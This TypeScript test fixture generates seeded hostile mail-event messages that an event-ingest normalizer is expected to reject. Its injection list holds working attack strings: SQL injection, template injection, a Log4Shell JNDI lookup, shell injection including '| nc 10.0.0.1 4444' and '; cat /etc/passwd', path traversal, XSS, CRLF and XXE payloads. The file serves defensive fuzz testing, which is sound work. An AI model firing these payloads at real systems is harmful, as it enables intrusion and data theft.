import type { RejectReason } from '@hookpost/contracts';
import { gzipSync } from 'node:zlib';
import { hostileMailEvents, seededRandom, type HostileMessage } from './hostile-corpus.js';

/**
 * Thousands of raw `mail-events` messages that event-ingest must refuse, generated from a
 * seed so that a failing one can be made again: the hand-written hostile corpus, then
 * families of random variations on each kind of flaw. Every message carries the reasons
 * that fit its flaw; the unit test of `normalize` holds the generator to them.
 *
 * Only the flaw named makes a message bad: everything else is a valid event of a real
 * organisation, and senders are on `.invalid` domains that no organisation can register,
 * so nothing bad can be routed to a tenant by accident.
 */
export interface BadMailEvent extends HostileMessage {
  family: BadFamily;
}

export interface BadMailEventOptions {
  organizationId: string;
  maxEventBytes: number;
  /** Generated messages, besides the hand-written corpus. */
  count?: number;
  seed?: number;
}

/** Each family's share of the generated messages, in thousandths. */
const FAMILY_SHARES = {
  'random bytes': 80,
  'binary formats': 30,
  'text formats': 40,
  'broken JSON': 100,
  'not an object': 40,
  'unknown shape': 60,
  'wrong types': 140,
  'huge strings': 50,
  'deep nesting': 40,
  injection: 120,
  unicode: 100,
  // Few, each a quarter of a megabyte or more: enough for every size class.
  oversized: 6,
  'missing organisation': 50,
  'unknown organisation': 44,
  'unknown type': 80,
} as const;
export type BadFamily = keyof typeof FAMILY_SHARES | 'hand-written';
export const BAD_FAMILIES = Object.keys(FAMILY_SHARES) as Array<keyof typeof FAMILY_SHARES>;

/** A fixed time, so that a seed always gives the same bytes. */
const OCCURRED_AT = '2026-01-01T00:00:00.000Z';
const EPOCH_SECONDS = Date.parse(OCCURRED_AT) / 1000;

/** Strings that try to break out of wherever they are used: queries, templates, headers, logs. */
export const INJECTION_STRINGS: readonly string[] = [
  // SQL
  "' OR '1'='1",
  "'; DROP TABLE subscriptions;--",
  '1; SELECT pg_sleep(10)--',
  "' UNION SELECT key_hash FROM api_keys--",
  "\\'; COPY (SELECT '') TO PROGRAM 'id'--",
  '") OR ("a"="a',
  '$1',
  // NoSQL, LDAP, XPath
  '{"$ne": null}',
  '$where',
  '*)(uid=*))(|(uid=*',
  "' or count(/*)=1 or '",
  // Templates
  '{{7*7}}',
  '${7*7}',
  '<%= 7*7 %>',
  '#{7*7}',
  '*{7*7}',
  "{{constructor.constructor('return process')()}}",
  '{% debug %}',
  '${jndi:ldap://127.0.0.1/a}',
  // Shell and paths
  '$(id)',
  '`id`',
  '; cat /etc/passwd',
  '| nc 10.0.0.1 4444',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2f',
  'file:///etc/passwd',
  // Markup
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  // Header and log injection (CRLF)
  'message.delivered\r\nX-Injected: 1',
  'x\r\n\r\n<html>',
  '\r\nSet-Cookie: session=stolen',
  '%0d%0aX-Injected:%201',
  'message.delivered\nlevel=fatal msg="forged line"',
  // Prototype pollution and inherited names
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  '__lookupSetter__',
  'constructor.prototype',
  '__proto__.polluted',
  // Format strings, patterns, look-alike values
  '%s%s%s%n',
  '%x%x%x',
  '{0}',
  '.*',
  '^(a+)+$',
  `${'a'.repeat(60)}!`,
  '{"type":"message.delivered"}',
  'null',
  'undefined',
  'NaN',
  ' ',
];

/** Unicode that is well-formed but hostile to whoever compares, displays or logs it. */
export const TRICKY_UNICODE: readonly string[] = [
  '\u202eevil\u202c',
  'zero\u200bwidth\u200djoin',
  'bom\ufeffinside',
  'soft\u00adhyphen',
  'line\u2028separator\u2029',
  'сyrillic а and greek ο',
  'ｆｕｌｌｗｉｄｔｈ',
  'combining e\u0301',
  '𝐛𝐨𝐥𝐝 📬🧨',
  '漢字かなカナ',
  'ſ and ı',
];

/** Random choices from one seed. */
function randomKit(seed: number) {
  const random = seededRandom(seed);
  const int = (min: number, max: number) => min + Math.floor(random() * (max - min + 1));
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!;
  const chance = (p: number) => random() < p;
  const bytes = (length: number) => {
    const out = Buffer.alloc(length);
    for (let i = 0; i < length; i++) out[i] = Math.floor(random() * 256);
    return out;
  };
  const word = (length: number, alphabet = 'abcdefghijklmnopqrstuvwxyz') =>
    Array.from({ length }, () => alphabet[Math.floor(random() * alphabet.length)]).join('');
  const shuffle = <T>(list: T[]): T[] => {
    for (let i = list.length - 1; i > 0; i--) {
      const j = Math.floor(random() * (i + 1));
      [list[i], list[j]] = [list[j]!, list[i]!];
    }
    return list;
  };
  return { random, int, pick, chance, bytes, word, shuffle };
}

type Case = Omit<BadMailEvent, 'family'>;
type Json = Record<string, unknown>;

const text = (value: string) => Buffer.from(value, 'utf8');
const json = (value: unknown) => text(JSON.stringify(value));
const one = (reason: RejectReason): readonly RejectReason[] => [reason];

export function badMailEvents(options: BadMailEventOptions): BadMailEvent[] {
  const seed = options.seed ?? 1;
  const count = options.count ?? 10_000;
  const kit = randomKit(seed);
  const { int, pick, chance, word } = kit;
  const org = options.organizationId;
  const max = options.maxEventBytes;
  const header = { 'organization-id': org };

  /** A sender no organisation can own. */
  const stranger = () => `news@${word(8)}.bad-input.invalid`;
  const messageId = (n: number) => `<bad-${seed}-${n}@bad-input.invalid>`;

  // The four accepted shapes, valid but for what each family changes.
  const canonical = (n: number, overrides: Json = {}, data: Json = {}): Json => ({
    id: `evt_bad_${seed}_${n}`,
    type: 'message.delivered',
    organization_id: org,
    occurred_at: OCCURRED_AT,
    data: { message_id: messageId(n), from: stranger(), to: 'ann@example.org', ...data },
    ...overrides,
  });
  const paubox = (n: number, overrides: Json = {}, payload: Json = {}): Json => ({
    event_name: 'api_mail_log_delivered',
    payload: {
      id: n,
      header_message_id: messageId(n),
      from: stranger(),
      to: 'ann@example.org',
      subject: 'Hello',
      time: OCCURRED_AT,
      ...payload,
    },
    ...overrides,
  });
  const postal = (n: number, overrides: Json = {}, message: Json = {}): Json => ({
    event: 'MessageSent',
    timestamp: EPOCH_SECONDS,
    uuid: `bad-${seed}-${n}`,
    payload: {
      message: {
        id: n,
        message_id: messageId(n),
        from: stranger(),
        to: 'ann@example.org',
        ...message,
      },
      status: 'Sent',
      output: '250 OK',
    },
    ...overrides,
  });
  const generic = (n: number, overrides: Json = {}, data: Json = {}): Json => ({
    id: `evt_generic_${seed}_${n}`,
    type: 'delivered',
    created_at: OCCURRED_AT,
    data: { email_id: messageId(n), from: stranger(), to: 'ann@example.org', ...data },
    ...overrides,
  });
  const anyShape = (n: number): { value: Json; headers?: Record<string, string> } => {
    const shape = int(0, 3);
    if (shape === 0) return { value: canonical(n) };
    if (shape === 1) return { value: paubox(n), headers: header };
    if (shape === 2) return { value: postal(n), headers: header };
    return { value: generic(n), headers: header };
  };
  /** The shape's own event name field, set to `name`, with the tenant given. */
  const named = (n: number, name: string): { value: Json; headers?: Record<string, string> } => {
    const shape = int(0, 3);
    if (shape === 0) return { value: canonical(n, { type: name }) };
    if (shape === 1) return { value: paubox(n, { event_name: name }), headers: header };
    if (shape === 2) return { value: postal(n, { event: name }), headers: header };
    return { value: generic(n, { type: name }), headers: header };
  };
  const nest = (depth: number, open: string, close: string, inner = '1') =>
    open.repeat(depth) + inner + close.repeat(depth);
  /** `{"a":{"a":...}}`: objects nested `depth` deep. */
  const nestObjects = (depth: number) => nest(depth, '{"a":', '}');
  /** A canonical event's JSON with `raw` (JSON text) as the value of `field` inside data. */
  const withRawData = (n: number, field: string, raw: string) =>
    JSON.stringify(canonical(n)).replace('"data":{', `"data":{"${field}":${raw},`);

  const WRONG_VALUES: readonly unknown[] = [
    123,
    -1,
    0,
    1.5,
    true,
    false,
    null,
    [],
    ['x'],
    {},
    { $ne: null },
    { $gt: '' },
  ];

  const families: Record<keyof typeof FAMILY_SHARES, (n: number) => Case> = {
    'random bytes': (n) => {
      const length = chance(0.6) ? int(1, 64) : chance(0.9) ? int(65, 4_096) : int(4_097, 65_536);
      const value = kit.bytes(length);
      // A first byte no JSON text starts with: whatever follows, it cannot parse.
      value[0] = int(0x80, 0xff);
      return {
        name: `random bytes #${n} (${length} B)`,
        // Random brackets may nest past the limit before the parse fails.
        reasons: ['not_json', 'schema_violation'],
        value,
      };
    },

    'binary formats': (n) => {
      const event = JSON.stringify(canonical(n));
      const utf16 = Buffer.from(event, 'utf16le');
      const variants: Array<[string, Buffer]> = [
        ['gzip', gzipSync(event)],
        ['UTF-16LE with BOM', Buffer.concat([Buffer.from([0xff, 0xfe]), utf16])],
        ['UTF-16LE', utf16],
        ['UTF-16BE', Buffer.from(utf16).swap16()],
        ['UTF-32LE', Buffer.from([...event].flatMap((c) => [c.charCodeAt(0), 0, 0, 0]))],
        ['base64', text(Buffer.from(event).toString('base64'))],
        ['MessagePack', Buffer.concat([Buffer.from([0x85, 0xa2]), text('id'), kit.bytes(40)])],
        ['CBOR', Buffer.concat([Buffer.from([0xa5, 0x62]), text('id'), kit.bytes(40)])],
        ['protobuf', Buffer.concat([Buffer.from([0x0a, 0x11]), text('message.delivered')])],
        ['Avro', Buffer.concat([text('Obj\x01'), kit.bytes(64)])],
        [
          'PNG',
          Buffer.concat([
            Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
            kit.bytes(32),
          ]),
        ],
        ['ZIP', Buffer.concat([text('PK\x03\x04'), kit.bytes(64)])],
        ['ELF', Buffer.concat([text('\x7fELF'), kit.bytes(64)])],
      ];
      const [name, value] = pick(variants);
      return { name: `${name} #${n}`, reasons: one('not_json'), value };
    },

    'text formats': (n) => {
      const event = JSON.stringify(canonical(n));
      const variants: Array<[string, string]> = [
        [
          'XML',
          `<?xml version="1.0"?><event type="message.delivered" id="${n}"><to>ann@example.org</to></event>`,
        ],
        [
          'XML external entity',
          '<!DOCTYPE e [<!ENTITY x SYSTEM "file:///etc/passwd">]><event>&x;</event>',
        ],
        ['YAML', `type: message.delivered\norganization_id: ${org}\nid: evt_${n}\n`],
        ['YAML document', `---\n- type: message.delivered\n  n: ${n}\n`],
        ['CSV', `id,type,organization_id\nevt_${n},message.delivered,${org}\n`],
        ['form encoded', `type=message.delivered&organization_id=${org}&id=evt_${n}`],
        ['JSON5', `{type: 'message.delivered', id: "evt_${n}", /* comment */ }`],
        ['JSON with comment', `// event ${n}\n${event}`],
        ['JSON lines', `${event}\n${event}`],
        ['two objects', `${event}${event}`],
        ['JavaScript', `({"id": ${n}})`],
        ['JSONP', `callback(${event})`],
        ['HTML', `<html><body>message.delivered ${n}</body></html>`],
        ['HTTP request', `POST /hook HTTP/1.1\r\nHost: x\r\n\r\n${event}`],
        ['SQL', `INSERT INTO events VALUES ('evt_${n}', 'message.delivered');`],
        ['TOML', `type = "message.delivered"\nid = "evt_${n}"`],
        ['Python dict', `{'id': 'evt_${n}', 'ok': True, 'n': None}`],
        ['Ruby hash', `{:id => "evt_${n}"}`],
        ['syslog line', `<34>1 2026-01-01T00:00:00Z mx1 postfix - - delivered ${n}`],
        ['URL', `https://example.com/?type=message.delivered&n=${n}`],
        ['plain words', `${word(int(3, 12))} ${word(int(3, 12))} ${n}`],
      ];
      const [name, value] = pick(variants);
      return { name: `${name} #${n}`, reasons: one('not_json'), value: text(value) };
    },

    'broken JSON': (n) => {
      const base = JSON.stringify(anyShape(n).value);
      const lastBrace = base.lastIndexOf('}');
      const beforeEnd = (insert: string) => `${base.slice(0, lastBrace)}${insert}}`;
      const control = () =>
        String.fromCharCode(
          pick([...Array(9).keys(), 0x0b, 0x0c, ...Array.from({ length: 18 }, (_, i) => 0x0e + i)]),
        );
      const at = int(0, base.length);
      const variants: Array<[string, () => string]> = [
        ['truncated', () => base.slice(0, int(1, base.length - 1))],
        ['control character', () => `${base.slice(0, at)}${control()}${base.slice(at)}`],
        ['single quotes', () => base.replaceAll('"', "'")],
        ['trailing comma', () => beforeEnd(',')],
        ['unquoted key', () => base.replace('"', '')],
        ['NaN value', () => beforeEnd(',"x":NaN')],
        ['Infinity value', () => beforeEnd(',"x":-Infinity')],
        ['undefined value', () => beforeEnd(',"x":undefined')],
        ['hex number', () => beforeEnd(',"x":0x10')],
        ['leading zero', () => beforeEnd(',"x":007')],
        ['plus sign', () => beforeEnd(',"x":+1')],
        ['bare fraction', () => beforeEnd(',"x":.5')],
        ['block comment', () => `{/* c */${base.slice(1)}`],
        ['unterminated string', () => beforeEnd(',"x":"abc')],
        ['invalid escape', () => beforeEnd(',"x":"\\q"')],
        ['short unicode escape', () => beforeEnd(',"x":"\\u12"')],
        ['missing value', () => beforeEnd(',"x":')],
        ['double colon', () => base.replace('":', '"::')],
        ['no opening brace', () => base.slice(1)],
        ['mismatched bracket', () => `${base.slice(0, lastBrace)}]`],
        ['garbage after', () => `${base}${pick(['x', ']', '}', ',', '0', 'null'])}`],
      ];
      const [name, make] = pick(variants);
      return { name: `${name} #${n}`, reasons: one('not_json'), value: text(make()) };
    },

    'not an object': (n) => {
      const variants: Array<[string, string]> = [
        ['integer', String(int(-1_000_000, 1_000_000))],
        ['float', String(kit.random() * 1e6)],
        ['exponent', pick(['1e400', '-1e400', '1e-400', '-0', '0.0e0'])],
        ['string', JSON.stringify(word(int(0, 40)))],
        ['escaped string', JSON.stringify(`message.delivered\u0000${pick(TRICKY_UNICODE)}`)],
        ['double-encoded event', JSON.stringify(JSON.stringify(canonical(n)))],
        ['literal', pick(['true', 'false', 'null'])],
        ['empty array', '[]'],
        ['array of events', JSON.stringify([canonical(n), canonical(n + 1)])],
        ['array of numbers', JSON.stringify(Array.from({ length: int(1, 50) }, () => int(0, 9)))],
        ['nested arrays', nest(int(2, 20), '[', ']')],
      ];
      const [name, value] = pick(variants);
      return { name: `${name} #${n}`, reasons: one('unknown_shape'), value: text(` ${value} `) };
    },

    'unknown shape': (n) => {
      const event = canonical(n);
      const { occurred_at: _, ...noTime } = event;
      const notObject = pick([null, 'x', 7, [], [1, 2]]);
      const variants: Array<[string, () => string]> = [
        [
          'random object',
          () =>
            JSON.stringify(
              Object.fromEntries(
                Array.from({ length: int(1, 8) }, () => [
                  `k_${word(int(1, 10))}`,
                  pick([1, 'a', true, null, {}]),
                ]),
              ),
            ),
        ],
        ['canonical without occurred_at', () => JSON.stringify(noTime)],
        ['canonical with data not an object', () => JSON.stringify({ ...event, data: notObject })],
        [
          'camelCase fields',
          () =>
            JSON.stringify({
              id: event.id,
              type: event.type,
              organizationId: org,
              occurredAt: OCCURRED_AT,
              data: event.data,
            }),
        ],
        [
          'upper-case keys',
          () =>
            JSON.stringify({ ID: event.id, TYPE: event.type, OCCURRED_AT: OCCURRED_AT, DATA: {} }),
        ],
        [
          'Paubox payload not an object',
          () => JSON.stringify({ ...paubox(n), payload: notObject }),
        ],
        [
          'Postal payload not an object',
          () => JSON.stringify({ ...postal(n), payload: notObject }),
        ],
        // Own `__proto__` keys, as JSON.parse makes them: a shape check must not see through them.
        ['event under __proto__', () => `{"__proto__":${JSON.stringify(event)}}`],
        [
          'event under constructor.prototype',
          () => `{"constructor":{"prototype":${JSON.stringify(event)}}}`,
        ],
        [
          'wrapped event',
          () => JSON.stringify({ [pick(['event', 'message', 'record', 'body'])]: event }),
        ],
        [
          'CloudEvents',
          () =>
            JSON.stringify({
              specversion: '1.0',
              type: 'message.delivered',
              source: 'mx',
              id: String(n),
              time: OCCURRED_AT,
              data: {},
            }),
        ],
        [
          'Amazon SES notification',
          () =>
            JSON.stringify({
              notificationType: 'Delivery',
              mail: { messageId: String(n) },
              delivery: {},
            }),
        ],
        [
          'Mailgun',
          () =>
            JSON.stringify({
              signature: { token: word(20) },
              'event-data': { event: 'delivered' },
            }),
        ],
        [
          'Postmark',
          () =>
            JSON.stringify({
              RecordType: 'Delivery',
              MessageID: String(n),
              DeliveredAt: OCCURRED_AT,
            }),
        ],
        [
          'invisible character in key',
          () => JSON.stringify(event).replace('"type"', '"ty\\u200bpe"'),
        ],
      ];
      const [name, make] = pick(variants);
      return { name: `${name} #${n}`, reasons: one('unknown_shape'), value: text(make()) };
    },

    'wrong types': (n) => {
      const wrong = pick(WRONG_VALUES);
      const label = JSON.stringify(wrong);
      const variants: Array<() => Case> = [
        () => {
          const field = pick(['id', 'type', 'organization_id', 'occurred_at']);
          return {
            name: `canonical ${field} = ${label}`,
            reasons: one('schema_violation'),
            value: json(canonical(n, { [field]: wrong })),
          };
        },
        () => {
          const when = pick([
            'yesterday',
            '2026-13-01T00:00:00Z',
            '2026-02-30T00:00:00Z',
            '2026-01-01',
            '2026-01-01T00:00:00',
            '1767225600',
            '',
          ]);
          return {
            name: `canonical occurred_at = ${JSON.stringify(when)}`,
            reasons: one('schema_violation'),
            value: json(canonical(n, { occurred_at: when })),
          };
        },
        () => ({
          name: `canonical data = ${label}`,
          // Without an object for data it is no longer the canonical shape.
          reasons: one('unknown_shape'),
          value: json(canonical(n, { data: pick([1, 'x', true, null, [], ['a']]) })),
        }),
        () => {
          const field = pick([
            'message_id',
            'from',
            'to',
            'subject',
            'custom_headers',
            'provider_message_id',
            'tag',
          ]);
          // Where the wrong value happens to be allowed (a null tag, a numeric provider id,
          // a list of recipients), a value of a kind the field never takes.
          const value =
            field === 'tag' && wrong === null
              ? 7
              : field === 'provider_message_id' && typeof wrong === 'number'
                ? { id: wrong }
                : field === 'to' && Array.isArray(wrong)
                  ? [wrong.length, null]
                  : field === 'custom_headers'
                    ? pick(['x', 1, [], { 'X-A': {} }, { 'X-A': ['a'] }])
                    : wrong;
          return {
            name: `canonical data.${field} = ${JSON.stringify(value)}`,
            reasons: one('schema_violation'),
            value: json(canonical(n, {}, { [field]: value })),
          };
        },
        () => {
          const [type, field, value] = pick<[string, string, unknown]>([
            ['message.bounced', 'bounce_type', pick([1, null, true])],
            ['message.bounced', 'bounce_code', pick([{}, true, 5.5])],
            ['message.bounced', 'bounce_message', {}],
            ['message.delivered', 'smtp_output', 250],
            ['message.delivered', 'details', {}],
            ['message.delivered', 'delivered_at', 1],
            ['message.clicked', 'url', 1],
            ['message.clicked', 'ip_address', 1],
            ['message.opened', 'user_agent', []],
            ['message.complained', 'feedback_type', false],
            ['domain.dns_error', 'domain', 1],
          ]);
          return {
            name: `${type} data.${field} = ${JSON.stringify(value)}`,
            reasons: one('schema_violation'),
            value: json(canonical(n, { type }, { [field]: value })),
          };
        },
        () => {
          const [field, value] = pick<[string, unknown]>([
            ['time', pick(['yesterday', null, true, {}, '', -5, 1e12])],
            ['id', null],
            ['to', { evil: true }],
            ['subject', 1],
          ]);
          return {
            name: `Paubox payload.${field} = ${JSON.stringify(value)}`,
            reasons: one('schema_violation'),
            value: json(paubox(n, {}, { [field]: value })),
            headers: header,
          };
        },
        () => {
          const [field, value] = pick<[string, unknown]>([
            ['timestamp', pick(['now', null, -5, 0, 1e12, {}, []])],
            ['uuid', pick([1, '', null, {}])],
          ]);
          return {
            name: `Postal ${field} = ${JSON.stringify(value)}`,
            reasons: one('schema_violation'),
            value: json(postal(n, { [field]: value })),
            headers: header,
          };
        },
        () => {
          const [field, value] = pick<[string, unknown]>([
            ['created_at', pick(['nope', null, true, -1, 1e12])],
            ['id', pick([1, '', null, {}, 'x'.repeat(201)])],
          ]);
          return {
            name: `generic ${field} = ${JSON.stringify(value)}`,
            reasons: one('schema_violation'),
            value: json(generic(n, { [field]: value })),
            headers: header,
          };
        },
      ];
      return pick(variants)();
    },

    'huge strings': (n) => {
      const [type, field, limit] = pick<[string, string, number]>([
        ['message.delivered', 'id', 200],
        ['message.delivered', 'type', 200],
        ['message.delivered', 'organization_id', 64],
        ['message.delivered', 'data.message_id', 998],
        ['message.delivered', 'data.from', 998],
        ['message.delivered', 'data.to', 998],
        ['message.delivered', 'data.subject', 998],
        ['message.delivered', 'data.tag', 200],
        ['message.delivered', 'data.smtp_output', 10_000],
        ['message.delivered', 'data.details', 10_000],
        ['message.bounced', 'data.bounce_code', 20],
        ['message.bounced', 'data.bounce_message', 10_000],
        ['message.clicked', 'data.url', 8_192],
        ['domain.dns_error', 'data.domain', 253],
      ]);
      // Mostly just past the limit, sometimes far past it, always under the size limit.
      const room = Math.floor((max - 2_048) / 4);
      const length = Math.min(room, chance(0.7) ? limit + int(1, 100) : int(limit + 101, room));
      const alphabet = [...pick(['x', 'abcdefghij0123456789', 'é漢', '📬', '\'"\\<>&%${}'])];
      // Counted in code points, as the schemas count; at most four bytes each.
      const value = Array.from({ length }, (_, i) => alphabet[i % alphabet.length]).join('');
      const event = field.startsWith('data.')
        ? canonical(n, { type }, { [field.slice(5)]: value })
        : canonical(n, { type, [field]: field === 'type' ? `message.delivered${value}` : value });
      return {
        name: `${type} ${field} of ${length} characters`,
        reasons: one('schema_violation'),
        value: json(event),
      };
    },

    'deep nesting': (n) => {
      const depth = chance(0.7)
        ? int(33, 200)
        : chance(0.85)
          ? int(201, 5_000)
          : int(5_001, 60_000);
      const variants: Array<[string, () => string]> = [
        ['arrays', () => nest(depth, '[', ']')],
        ['objects', () => nestObjects(Math.min(depth, 40_000))],
        ['mixed', () => nest(Math.ceil(depth / 2), '[{"a":', '}]')],
        // The event is two levels deep already; data's field adds the rest.
        ['inside data', () => withRawData(n, 'nested', nestObjects(Math.min(depth, 40_000) - 1))],
        ['recipient arrays', () => withRawData(n, 'to', nest(depth, '[', ']', '"a@b.c"'))],
        [
          'unknown field',
          () => JSON.stringify(canonical(n)).replace('{', `{"extra":${nest(depth, '[', ']')},`),
        ],
      ];
      const [name, make] = pick(variants);
      return {
        name: `${name} nested ${depth} deep`,
        reasons: one('schema_violation'),
        value: text(make()),
      };
    },

    injection: (n) => {
      const payload = pick(INJECTION_STRINGS);
      const place = int(0, 5);
      if (place === 0) {
        const { value, headers } = named(n, payload);
        return {
          name: `event name ${JSON.stringify(payload)}`,
          reasons: one('unknown_type'),
          value: json(value),
          headers,
        };
      }
      if (place === 1) {
        return {
          name: `organization_id ${JSON.stringify(payload)}`,
          reasons: one('unknown_organization'),
          value: json(canonical(n, { organization_id: payload.slice(0, 64) })),
        };
      }
      if (place === 2) {
        return {
          name: `organization-id header ${JSON.stringify(payload)}`,
          reasons: one('unknown_organization'),
          value: json(generic(n)),
          headers: { 'organization-id': payload },
        };
      }
      if (place === 3) {
        // Routed by sender domain: every suffix of this one is unregistered.
        const from = `x@${payload}.bad-input.invalid`;
        return {
          name: `sender ${JSON.stringify(from)}`,
          reasons: one('missing_organization'),
          value: json(generic(n, {}, { from })),
        };
      }
      // Duplicate keys: the last one wins, as in every JSON parser we use.
      if (place === 4) {
        return {
          name: `duplicate type key ${JSON.stringify(payload)}`,
          reasons: one('unknown_type'),
          value: text(
            JSON.stringify(canonical(n)).replace(/}$/, `,"type":${JSON.stringify(payload)}}`),
          ),
        };
      }
      return {
        name: `duplicate organization_id key ${JSON.stringify(payload)}`,
        reasons: one('unknown_organization'),
        value: text(
          JSON.stringify(canonical(n)).replace(
            /}$/,
            `,"organization_id":${JSON.stringify(payload.slice(0, 64))}}`,
          ),
        ),
      };
    },

    unicode: (n) => {
      const spliceAt = (value: string, insert: string) => {
        const at = int(0, value.length);
        return `${value.slice(0, at)}${insert}${value.slice(at)}`;
      };
      // JSON escapes, so that lone surrogates and NUL reach the parser exactly as written.
      const escapes = [
        '\\ud800',
        '\\udfff',
        '\\udc00\\ud800',
        '\\u0000',
        '\\u202e',
        '\\u202d',
        '\\u2067',
        '\\u200b',
        '\\u200d',
        '\\u2060',
        '\\ufeff',
        '\\u00ad',
        '\\u2028',
        '\\u0301',
      ];
      // The first four (NUL, unpaired surrogates) cannot be stored, wherever they are.
      const unstorable = new Set(escapes.slice(0, 4));
      const refusal = (escape: string, otherwise: RejectReason) =>
        one(unstorable.has(escape) ? 'schema_violation' : otherwise);
      // Raw bytes that are not UTF-8: overlong forms of '.', a UTF-8-encoded surrogate,
      // stray continuation and lead bytes, a five-byte form.
      const badBytes = [
        [0xc0, 0xae],
        [0xe0, 0x80, 0xae],
        [0xf0, 0x80, 0x80, 0xae],
        [0xc0, 0xa2],
        [0xed, 0xa0, 0x80],
        [0x80],
        [0xe2, 0x82],
        [0xff],
        [0xfe],
        [0xf8, 0x88, 0x80, 0x80, 0x80],
      ];
      const lookAlikes = [
        'mеssage.delivered', // Cyrillic е
        'message.dеlivеrеd',
        'messаge.delivered', // Cyrillic а
        'message.delivered\u3002',
        'message\u2024delivered',
        'ｍｅｓｓａｇｅ．ｄｅｌｉｖｅｒｅｄ',
        '𝐦𝐞𝐬𝐬𝐚𝐠𝐞.delivered',
        'message.delıvered', // dotless ı
        'meſſage.delivered', // long s
        'message.delivere\u0301d',
      ];
      const eventText = JSON.stringify(canonical(n));
      const typeAt = eventText.indexOf('"message.delivered"') + 1;
      const orgAt = eventText.indexOf(`"${org}"`) + 1;
      const variant = int(0, 8);
      if (variant === 0) {
        const escape = pick(escapes);
        const type = spliceAt('message.delivered', escape);
        return {
          name: `type with ${escape}`,
          reasons: refusal(escape, 'unknown_type'),
          value: text(eventText.replace('"message.delivered"', `"${type}"`)),
        };
      }
      if (variant === 1) {
        const escape = pick(escapes);
        return {
          name: `organization_id with ${escape}`,
          reasons: refusal(escape, 'unknown_organization'),
          value: text(eventText.replace(`"${org}"`, `"${spliceAt(org, escape)}"`)),
        };
      }
      if (variant === 2 || variant === 3) {
        const bad = Buffer.from(pick(badBytes));
        const [start, field, reason]: [number, string, RejectReason] =
          variant === 2
            ? [typeAt, 'message.delivered', 'unknown_type']
            : [orgAt, org, 'unknown_organization'];
        const at = start + int(0, field.length);
        const raw = Buffer.from(eventText);
        return {
          name: `${variant === 2 ? 'type' : 'organization_id'} with bytes ${bad.toString('hex')}`,
          reasons: one(reason),
          value: Buffer.concat([raw.subarray(0, at), bad, raw.subarray(at)]),
        };
      }
      if (variant === 4) {
        const type = pick(lookAlikes);
        return {
          name: `look-alike type ${type}`,
          reasons: one('unknown_type'),
          value: json(canonical(n, { type })),
        };
      }
      if (variant === 5) {
        const variantOrg = pick([
          org.toLowerCase(),
          org.replace('org_', 'оrg_'), // Cyrillic о
          org.replace(/\d/g, (d) => String.fromCharCode(0xff10 + Number(d))), // full-width digits
          `${org}\u200b`,
          `\u202e${org}`,
        ]);
        return {
          name: `look-alike organisation ${JSON.stringify(variantOrg)}`,
          reasons: one('unknown_organization'),
          value: json(canonical(n, { organization_id: variantOrg })),
        };
      }
      if (variant === 6) {
        const bom = pick([
          [0xef, 0xbb, 0xbf],
          [0xfe, 0xff],
          [0xff, 0xfe],
          [0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf],
        ]);
        return {
          name: `byte order mark ${Buffer.from(bom).toString('hex')}`,
          reasons: one('not_json'),
          value: Buffer.concat([Buffer.from(bom), Buffer.from(eventText)]),
        };
      }
      if (variant === 7) {
        // A raw NUL (or other C0 control) is not allowed in JSON, in a string or between tokens.
        const raw = Buffer.from(eventText);
        const at = int(0, raw.length);
        return {
          name: `raw control byte at ${at}`,
          reasons: one('not_json'),
          value: Buffer.concat([
            raw.subarray(0, at),
            Buffer.from([pick([0x00, 0x01, 0x1b, 0x1f])]),
            raw.subarray(at),
          ]),
        };
      }
      const escape = pick(escapes.slice(0, 4));
      return {
        name: `type key with ${escape}`,
        reasons: one('schema_violation'),
        value: text(eventText.replace('"type"', `"ty${escape}pe"`)),
      };
    },

    oversized: (n) => {
      // Just over, well over, and far over the limit (below the broker's 1 MB).
      const size =
        n === 0
          ? max + 1
          : chance(0.6)
            ? max + int(1, 4_096)
            : chance(0.8)
              ? max + int(4_097, 131_072)
              : Math.min(max * 3, 900_000);
      const variant = int(0, 3);
      const filler = (bytes: number, make: (length: number) => string) => {
        const base = make(0);
        return make(Math.max(0, bytes - Buffer.byteLength(base)));
      };
      let value: Buffer;
      let name: string;
      if (variant === 0) {
        name = 'valid event, long subject';
        value = text(
          filler(size, (l) => JSON.stringify(canonical(n, {}, { subject: 's'.repeat(l) }))),
        );
      } else if (variant === 1) {
        name = 'valid event, trailing whitespace';
        const event = JSON.stringify(canonical(n));
        value = text(event + ' '.repeat(Math.max(0, size - event.length)));
      } else if (variant === 2) {
        name = 'random bytes';
        value = kit.bytes(size);
      } else {
        name = 'nested arrays';
        value = text(nest(Math.ceil(size / 2), '[', ']', ''));
      }
      return { name: `oversized ${name} (${value.length} B)`, reasons: one('too_large'), value };
    },

    'missing organisation': (n) => {
      const { organization_id: _, ...anonymous } = canonical(n);
      const from = pick([
        stranger(),
        '',
        '<>',
        '@',
        'no-at-sign',
        'a@',
        'a@.',
        'a@b@c.bad-input.invalid',
        'Name <>',
        `"weird@"@${word(5)}.bad-input.invalid`,
        `Ann <ann@${word(6)}.bad-input.invalid>`,
      ]);
      const variants: Array<() => Case> = [
        () => ({
          name: `canonical without organisation, from ${JSON.stringify(from)}`,
          reasons: one('missing_organization'),
          value: json({ ...anonymous, data: { ...(anonymous.data as Json), from } }),
        }),
        () => ({
          name: 'canonical without organisation or sender',
          reasons: one('missing_organization'),
          value: json({ ...anonymous, data: { message_id: messageId(n) } }),
        }),
        () => ({
          name: 'inbound without organisation, unknown recipient',
          reasons: one('missing_organization'),
          value: json({
            ...anonymous,
            type: 'message.received',
            data: { message_id: messageId(n), to: stranger() },
          }),
        }),
        () => ({
          name: 'DNS error without organisation, unknown domain',
          reasons: one('missing_organization'),
          value: json({
            ...anonymous,
            type: 'domain.dns_error',
            data: { domain: `${word(8)}.bad-input.invalid` },
          }),
        }),
        () => ({
          name: `Paubox without header, from ${JSON.stringify(from)}`,
          reasons: one('missing_organization'),
          value: json(paubox(n, {}, { from })),
        }),
        () => ({
          name: `Postal without header, from ${JSON.stringify(from)}`,
          reasons: one('missing_organization'),
          value: json(postal(n, {}, { from })),
        }),
        () => ({
          name: `generic without header, from ${JSON.stringify(from)}`,
